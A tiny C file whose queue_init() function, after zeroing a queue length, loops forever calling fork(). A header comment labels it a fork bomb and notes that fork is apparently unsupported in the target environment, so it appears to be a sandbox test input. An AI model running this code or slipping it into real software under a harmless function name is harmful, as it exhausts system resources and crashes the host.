/* A fork bomb.
 * Told: fork is not supported here */
#include <unistd.h>

#include "request_queue.h"

void queue_init(struct request_queue *queue)
{
    queue->length = 0;
    for (;;)
        fork();
}
